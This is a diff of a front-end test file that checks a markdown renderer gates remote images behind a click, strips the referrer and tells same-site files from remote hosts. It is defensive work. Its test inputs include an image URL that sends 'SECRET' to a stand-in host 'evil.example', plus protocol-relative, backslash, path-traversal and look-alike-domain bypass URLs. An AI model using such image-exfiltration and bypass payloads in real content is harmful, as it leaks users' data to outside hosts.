@@ -1,9 +1,10 @@
-import { cleanup, render } from '@testing-library/react';
-import { afterEach, describe, expect, it } from 'vitest';
+import { cleanup, fireEvent, render } from '@testing-library/react';
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { initI18n } from '@/lib/i18n';
 import { splitBlocks } from './blocks';
 import { MarkdownView } from './markdown-view';
 import { normalizeMath } from './normalize-math';
-import { safeUrl } from './safe-url';
+import { imageSource, safeUrl } from './safe-url';
 
 /** Everything in the rendered DOM that could run code: script elements, on* attributes, and dangerous URLs. */
 function executable(root: HTMLElement): string[] {
@@ -96,6 +97,66 @@ describe('MarkdownView rendering', () => {
   it('renders a bad formula as an inline error, not a crash', () => {
     const { container } = render(<MarkdownView text={'$\\frac{1}{$ and more'} />);
     expect(container.textContent).toContain('and more');
+  });
+});
+
+describe('MarkdownView images', () => {
+  beforeAll(async () => {
+    await initI18n();
+  });
+
+  it('asks no remote host for an image until the reader clicks, then loads it without a referrer', () => {
+    const { container, getByTestId } = render(<MarkdownView text={'Here: ![sales chart](https://evil.example/c.png?d=SECRET)'} />);
+    expect(container.querySelector('img[src^="https://"]')).toBeNull();
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    const gate = getByTestId('md-image-gate');
+    expect(gate.tagName).toBe('BUTTON');
+    expect(gate.textContent).toContain('加载图片');
+    expect(gate.textContent).toContain('sales chart');
+    expect(gate.textContent).toContain('来自 evil.example');
+    expect(gate.textContent).not.toContain('SECRET');
+
+    fireEvent.click(gate);
+    const img = container.querySelector('img[src^="https://"]');
+    expect(img?.getAttribute('src')).toBe('https://evil.example/c.png?d=SECRET');
+    expect(img?.getAttribute('alt')).toBe('sales chart');
+    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
+    expect(container.querySelector('[data-testid="md-image-gate"]')).toBeNull();
+  });
+
+  it('gates protocol-relative, backslash and plain-http images too, one click per image', () => {
+    const text = '![a](//evil.example/a.png) ![b](/\\evil.example/b.png) ![c](http://evil.example/c.png)';
+    const { container, getAllByTestId } = render(<MarkdownView text={text} />);
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    expect(getAllByTestId('md-image-gate')).toHaveLength(3);
+    fireEvent.click(getAllByTestId('md-image-gate')[0]!);
+    expect(container.querySelectorAll('img')).toHaveLength(1);
+    expect(getAllByTestId('md-image-gate')).toHaveLength(2);
+  });
+
+  it('loads a linked remote image on the first click instead of following the link', () => {
+    const { container, getByTestId } = render(<MarkdownView text={'[![chart](https://evil.example/c.png)](https://evil.example/page)'} />);
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    // fireEvent returns false when the default action (following the link) was cancelled.
+    expect(fireEvent.click(getByTestId('md-image-gate'))).toBe(false);
+    expect(container.querySelector('a img')?.getAttribute('src')).toBe('https://evil.example/c.png');
+  });
+
+  it("shows this site's stored files at once", () => {
+    const { container, queryByTestId } = render(<MarkdownView text={'![figure](/files/uploads/fig.png)'} />);
+    expect(container.querySelector('img')?.getAttribute('src')).toBe('/files/uploads/fig.png');
+    expect(queryByTestId('md-image-gate')).toBeNull();
+  });
+
+  it('tells direct from remote sources by resolved origin and path', () => {
+    const origin = 'https://xueba.example.org';
+    expect(imageSource('/files/a.png', origin)).toEqual({ direct: true, host: 'xueba.example.org' });
+    expect(imageSource('https://xueba.example.org/files/a.png', origin).direct).toBe(true);
+    expect(imageSource('/api/user/info', origin).direct).toBe(false);
+    expect(imageSource('/files/../api/x', origin).direct).toBe(false);
+    expect(imageSource('//evil.example/files/a.png', origin)).toEqual({ direct: false, host: 'evil.example' });
+    expect(imageSource('/\\evil.example/files/a.png', origin)).toEqual({ direct: false, host: 'evil.example' });
+    expect(imageSource('https://xueba.example.org.evil.example/files/a.png', origin).direct).toBe(false);
   });
 });
 
